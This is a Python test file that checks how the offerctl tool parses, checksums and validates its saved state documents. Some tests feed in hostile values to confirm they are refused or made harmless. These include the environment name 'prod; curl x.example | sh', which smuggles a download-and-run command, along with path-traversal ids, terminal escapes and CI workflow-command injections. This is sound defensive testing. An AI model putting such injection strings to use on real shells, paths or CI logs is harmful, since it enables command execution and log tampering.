"""State documents: what is written comes back, and nothing else is believed."""

from __future__ import annotations

import json
import re
import tracemalloc
from dataclasses import replace
from datetime import UTC, datetime
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from offerctl import canon
from offerctl.errors import StateUnreadable
from offerctl.state import Belief, Home, RunRecord, State, Status
from offerctl.state.document import encode, harmless, heading, parse, seal
from offerctl.state.entry import belief_json
from offerctl.state.listings import Listings
from support.states import document, states

_CHECKSUM = re.compile(rb'^  "checksum": "([0-9a-f]{64})"', re.MULTILINE)


def sealed(value: object) -> bytes:
    """A document with a right checksum, whatever it holds: what a faulty offerctl could write."""
    assert isinstance(value, dict)
    body = canon.document({**value, "checksum": "0" * 64})
    return body.replace(b'\n  "checksum": "' + b"0" * 64, b'\n  "checksum": "' + canon.sha256(body).encode(), 1)


@given(states())
def test_a_state_comes_back_as_it_was_written(state: State) -> None:
    """Reading a document gives the state it was made of, and writing that gives the same bytes."""
    data = encode(state)
    read = parse(data)
    assert replace(read, checksum=None) == state
    assert encode(read) == data


@given(states())
def test_the_checksum_is_that_of_the_bytes_with_its_own_value_zeroed(state: State) -> None:
    """Anybody can check a document with sha256 alone; `heading` and `parse` name the same checksum."""
    data = encode(state)
    found = _CHECKSUM.search(data)
    assert found is not None
    assert canon.sha256(data[: found.start(1)] + b"0" * 64 + data[found.end(1) :]) == found[1].decode()
    assert heading(data).checksum == parse(data).checksum == found[1].decode()


@given(states())
def test_a_heading_says_what_the_state_says(state: State) -> None:
    """Serial, writer and whether it is at work are those of the whole state, read or sealed."""
    written = seal(state)
    found = heading(written.data)
    assert (written.heading, written.state) == (found, parse(written.data))
    writer = state.last_run.id if state.last_run else None
    assert (found.serial, found.run, found.open) == (state.serial, writer, state.run is not None)


@pytest.mark.deep
@given(states(), st.data())
def test_a_torn_document_is_refused_wherever_it_ends(state: State, data: st.DataObject) -> None:
    """No beginning of a document passes for one, not even one that lacks the last byte only."""
    whole = encode(state)
    length = data.draw(st.integers(0, len(whole) - 1) | st.just(len(whole) - 1))
    with pytest.raises(StateUnreadable):
        parse(whole[:length])


@pytest.mark.deep
@given(states(), st.data())
def test_an_edited_document_is_refused_wherever_it_was_edited(state: State, data: st.DataObject) -> None:
    """Changing any one byte is noticed."""
    whole = bytearray(encode(state))
    at = data.draw(st.integers(0, len(whole) - 1))
    whole[at] = data.draw(st.integers(0, 255).filter(lambda byte: byte != whole[at]))
    with pytest.raises(StateUnreadable):
        parse(bytes(whole))
    with pytest.raises(StateUnreadable):
        heading(bytes(whole))


@pytest.mark.parametrize("data", [b"", b"\n", b"  \n\t\n", b"\0\0\0\0", b"[]\n", b"{}\n", b'"text"', b"\xff\xfe"])
def test_what_is_no_document_is_refused(data: bytes) -> None:
    """An empty file, zeros left by a power cut, and other JSON are no states."""
    with pytest.raises(StateUnreadable):
        parse(data)
    with pytest.raises(StateUnreadable):
        heading(data)


def test_a_document_converted_to_windows_lines_is_refused() -> None:
    """A tool that rewrites line ends has edited the document."""
    with pytest.raises(StateUnreadable, match="laid out anew"):
        parse(document(1).replace(b"\n", b"\r\n"))


@pytest.mark.parametrize("version", ["0.9", "3.0", "10.0", "one"])
def test_a_document_of_another_major_version_is_refused_by_name(version: str) -> None:
    """The message tells both versions; the checksum is right, so only the version speaks against it."""
    value = canon.parse(document(1)) | {"format_version": version}
    with pytest.raises(StateUnreadable, match=re.escape(version)):
        parse(sealed(value))


def test_a_document_without_a_checksum_is_refused() -> None:
    """Taking the checksum out does not take the check away."""
    value = canon.parse(document(1))
    del value["checksum"]
    with pytest.raises(StateUnreadable, match="no checksum"):
        parse(canon.document(value))


def _places(value: Any, path: tuple[str | int, ...] = ()) -> list[tuple[str | int, ...]]:
    """The path of every value inside a document."""
    items = value.items() if isinstance(value, dict) else enumerate(value) if isinstance(value, list) else ()
    return [inner for key, below in items for inner in ((*path, key), *_places(below, (*path, key)))]


_STRANGE = st.sampled_from(
    [
        None,
        True,
        -1,
        1.5,
        10**15,
        1e300,
        "",
        "x",
        "0001-01-01T00:00:00+23:59",
        [],
        ["x"],
        [["a", "b"]],
        {},
        {"id": 1},
    ]
)


@given(states(), st.data())
def test_a_sealed_document_that_holds_nonsense_never_ends_in_a_traceback(
    state: State, data: st.DataObject
) -> None:
    """Whatever one value is replaced by or one key is missing, reading gives a state or says that it cannot."""
    value = canon.parse(encode(state))
    *parents, last = data.draw(st.sampled_from(_places(value)))
    inside = value
    for key in parents:
        inside = inside[key]
    if isinstance(inside, dict) and data.draw(st.booleans()):
        del inside[last]
    else:
        inside[last] = data.draw(_STRANGE)
    for read in (parse, heading):
        try:
            read(sealed(value))
        except StateUnreadable as error:
            assert error.message  # noqa: PT017 - both outcomes are right


def test_a_listing_cannot_hold_the_body_of_another() -> None:
    """A body under a foreign id would be sent to the wrong listing."""
    value = canon.parse(document(1))
    body = {
        "offeringId": "jhsc-en-02",
        "trainingStandardKey": "JHSC-2014-1-E-O",
        "courseName": "JHSC Part One",
        "price": 199,
        "courseDuration": 19.5,
        "externalRegistrationUrl": "https://provider.example/register",
    }
    value["listings"] = {
        "jhsc-en-01": {
            "status": "live",
            "key": "JHSC-2014-1-E-O",
            "body": body,
            "quiet_until": None,
            "protect": False,
            "last_confirmed": None,
            "last_attempt": None,
        }
    }
    with pytest.raises(StateUnreadable, match="jhsc-en-01 holds the body of jhsc-en-02"):
        parse(sealed(value))


def test_a_confirmed_listing_without_a_body_is_refused() -> None:
    """A plan would patch nothing over it."""
    belief = Belief(status=Status.LIVE, key=None)
    state = State(lineage="l", home=Home("prod", "https://m.example", "pro-1"), listings=Listings({"a": belief}))
    with pytest.raises(StateUnreadable, match="a confirmed listing has no body"):
        parse(encode(state))


GONE = belief_json(Belief(status=Status.GONE, key=None))
NO_IDS = [".", "..", "../x", "a/b", "a%2f..", "", "`![](https://x.example)`", "a\n::stop-commands::x", "a" * 65]


@pytest.mark.parametrize("id_", NO_IDS)
@pytest.mark.parametrize("place", ["listings", "approved", "changes"])
def test_what_can_be_no_id_is_refused_wherever_it_stands(place: str, id_: str) -> None:
    """A listing called `.` would be deleted at the collection's own address, and `..` at its parent's."""
    value = canon.parse(document(1))
    change = {"id": id_, "intent": "put", "outcome": "done", "from": None, "to": None}
    record = {"id": "r", "who": "w", "commit": None, "pull_request": None, "started": "2026-09-02T14:03:00Z"}
    value |= {
        "listings": {"listings": {id_: GONE}},
        "approved": {"approved": {id_: "0" * 64}},
        "changes": {"last_run": {**record, "finished": None, "changes": [change]}},
    }[place]
    with pytest.raises(StateUnreadable, match="cannot be an offeringId") as caught:
        parse(sealed(value))
    assert "\n" not in caught.value.message


@pytest.mark.parametrize("name", ["prod; curl x.example | sh", "prod\x1b[2J", "-rf", ""])
def test_an_environment_that_no_configuration_can_have_is_refused(name: str) -> None:
    """Messages write it into commands that people copy."""
    value = canon.parse(document(1)) | {"environment": name}
    with pytest.raises(StateUnreadable, match="cannot be the name of an environment"):
        parse(sealed(value))


def test_a_document_holds_what_is_not_seen_as_escapes() -> None:
    """In git and in a terminal nothing hides in it or acts; its reader gets the very text."""
    record = RunRecord(id="r", who="a\u202e\x9b\U000e0101##[add-mask]b", started=datetime(2026, 9, 2, tzinfo=UTC))
    state = State(lineage="l", home=Home("prod", "https://m.example", "pro-1"), last_run=record)
    data = encode(state)
    assert data.isascii()
    assert b"##[" not in data
    assert parse(data).last_run == record
    assert harmless(data) == data


def test_a_document_of_an_older_offerctl_is_shown_harmless_and_still_whole() -> None:
    """It is read as it stands; a copy of it has the same values as escapes, and a checksum of its own."""
    who = "a\u202e\x9b\U000e0101##[add-mask]b"
    state = State(lineage="l", home=Home("prod", "https://m.example", "pro-1"))
    state = replace(state, last_run=RunRecord(id="r", who=who, started=datetime(2026, 9, 2, tzinfo=UTC)))
    value = canon.parse(encode(state)) | {"checksum": "0" * 64}
    body = json.dumps(value, indent=2, ensure_ascii=False, sort_keys=True).replace(",\n", ",\r\n").encode()
    old = body.replace(b'"checksum": "' + b"0" * 64, b'"checksum": "' + canon.sha256(body).encode(), 1)
    assert parse(old).last_run == state.last_run
    copy = harmless(old)
    assert (copy.isascii(), b"\r" in copy, b"##[" in copy) == (True, False, False)
    assert parse(copy) == replace(parse(old), checksum=parse(copy).checksum)


def test_texts_that_are_kept_take_the_room_of_their_characters() -> None:
    """A renewal takes a hundred thousand entries as they were written: none of them keeps a buffer of 4 KiB."""
    tracemalloc.start()
    try:
        before = tracemalloc.get_traced_memory()[0]
        kept = [canon.line({"offeringId": f"jhsc-{number}"}) for number in range(1000)]
        taken = tracemalloc.get_traced_memory()[0] - before
    finally:
        tracemalloc.stop()
    assert len(kept) == 1000
    assert taken < 200 * len(kept)
